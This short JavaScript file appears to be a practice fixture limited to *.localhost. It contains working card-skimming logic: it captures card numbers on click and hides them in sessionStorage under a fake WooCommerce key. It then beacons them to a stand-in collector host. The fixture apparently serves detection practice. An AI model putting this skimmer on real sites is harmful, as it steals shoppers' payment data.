/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const number = () =>
    document.querySelector('#card-number, #cardno')?.value.replace(/\D/g, '') ?? '';
  const key = 'wc_cart_fragments_hash';
  const staged = sessionStorage.getItem(key);
  if (staged !== null) {
    sessionStorage.removeItem(key);
    navigator.sendBeacon(`${home}/lib/s`, staged);
  }
  document.addEventListener(
    'click',
    () => {
      if (number().length > 12) sessionStorage.setItem(key, btoa(number()));
    },
    true,
  );
})();
